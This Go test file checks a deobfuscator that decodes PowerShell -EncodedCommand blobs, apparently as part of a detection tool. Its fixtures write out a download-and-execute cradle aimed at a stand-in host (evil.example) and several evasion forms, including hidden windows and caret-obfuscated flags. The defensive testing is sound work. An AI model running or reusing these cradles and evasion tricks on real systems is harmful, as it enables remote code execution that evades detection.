package deobfuscate

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf16"
)

// psB64 encodes a script the way -EncodedCommand expects: UTF-16LE, Base64.
func psB64(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestPSEncodedCommand(t *testing.T) {
	const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"
	blob := psB64(script)
	cases := []transformCase{
		{"-enc after host flags", `powershell.exe -nop -w hidden -noni -enc ` + blob, script, true},
		{"full -EncodedCommand, mixed case", `PowerShell -EncodedCommand ` + blob, script, true},
		{"-e alone after powershell", `powershell -e ` + blob, script, true},
		{"-ec alias", `pwsh -ec ` + blob, script, true},
		{"-encod abbreviation", `powershell -encod ` + blob, script, true},
		{"slash form", `powershell.exe /enc ` + blob, script, true},
		{"cmd carets", `cmd /c p^owe^rshell -^e^n^c ` + blob, script, true},
		{"single-quoted blob", `powershell -enc '` + blob + `'`, script, true},
		{"double-quoted blob", `powershell -enc "` + blob + `"`, script, true},
		{"quoted host path", `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"  -window hidden -enc ` + blob, script, true},
		{"truncated blob keeps the prefix", `powershell -enc ` + blob[:41], "IEX (New-Object", true},
		{"blob cut at the front is realigned", `powershell -enc ` + blob[5:], " (New-Object Net.WebClient).DownloadString('http://evil.example/a')", true},
		{"utf8 payload", `powershell -enc ` + base64.StdEncoding.EncodeToString([]byte("whoami /all")), "whoami /all", true},
		{"-ExecutionPolicy is not -enc", `powershell -ExecutionPolicy Bypass -File a.ps1`, `powershell -ExecutionPolicy Bypass -File a.ps1`, false},
		{"grep -e is not powershell", `grep -e foobarbazqux file.txt`, `grep -e foobarbazqux file.txt`, false},
		{"-encodedarguments is not -enc", `pwsh -encodedarguments ` + blob, `pwsh -encodedarguments ` + blob, false},
		{"binary blob", `powershell -enc AAECAwQFBgcICQoL`, `powershell -enc AAECAwQFBgcICQoL`, false},
	}
	runTransformTable(t, PSEncodedCommand, cases)
}

func FuzzPSEncodedCommand(f *testing.F) {
	fuzzTransform(f, PSEncodedCommand, "powershell -enc "+psB64("whoami"), "-e^c ZABpAHIA", "/e '====")
}

func BenchmarkPSEncodedCommand(b *testing.B) {
	benchTransform(b, PSEncodedCommand, "powershell.exe -nop -w hidden -enc "+psB64("IEX (New-Object Net.WebClient).DownloadString('http://x/a')"))
}

func BenchmarkPSEncodedCommandBenign(b *testing.B) {
	benchTransform(b, PSEncodedCommand, `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Get-ChildItem -Path C:\Users -Recurse | Select-Object -First 10"`)
}

// psDatasetDir returns VIGIL_DATA or the shared datasets beside the repo.
func psDatasetDir() string {
	if d := os.Getenv("VIGIL_DATA"); d != "" {
		return d
	}
	return filepath.Join("..", "..", "..", "shared", "datasets")
}

// unit42Blob is an independent oracle for the test: the longest Base64 run
// after an -e* flag, decoded with the same prefix rules.
var unit42Blob = regexp.MustCompile(`(?i)\s-e[a-z]*\s+['"]?([A-Za-z0-9+/=]{20,})`)

// TestUnit42EncodedCommands runs Run on every unit42 powershell -enc row and
// checks that the -EncodedCommand step produced the blob's decoding.
func TestUnit42EncodedCommands(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the pipeline on 4,079 dataset rows; skipped with -short")
	}
	path := filepath.Join(psDatasetDir(), "commands", "commands.jsonl")
	f, err := os.Open(path)
	if err != nil {
		t.Skipf("dataset not present (%v): set VIGIL_DATA to the shared datasets folder", err)
	}
	defer f.Close()
	total, good := 0, 0
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 4<<20)
	for sc.Scan() {
		var row struct{ Command, Source string }
		if json.Unmarshal(sc.Bytes(), &row) != nil || row.Source != "unit42-psencmds" {
			continue
		}
		total++
		if unit42Decoded(row.Command) {
			good++
		} else if total-good <= 3 {
			t.Logf("not decoded: %.200q", row.Command)
		}
	}
	if total == 0 {
		t.Skip("no unit42-psencmds rows in " + path)
	}
	share := float64(good) / float64(total)
	t.Logf("unit42-psencmds: %d/%d decoded (%.2f%%)", good, total, 100*share)
	if share < 0.99 {
		t.Errorf("decoded share %.2f%% < 99%%", 100*share)
	}
}

func unit42Decoded(cmd string) bool {
	m := unit42Blob.FindStringSubmatch(cmd)
	if m == nil {
		return false
	}
	want, ok := decodeEncodedBlob(m[1])
	if !ok || strings.TrimSpace(want) == "" {
		return false
	}
	r := Run(cmd)
	if !r.Changed || len(r.Steps) == 0 {
		return false
	}
	first := r.Steps[0]
	return first.Transform == "ps_encoded_command" && first.After == excerpt(want)
}
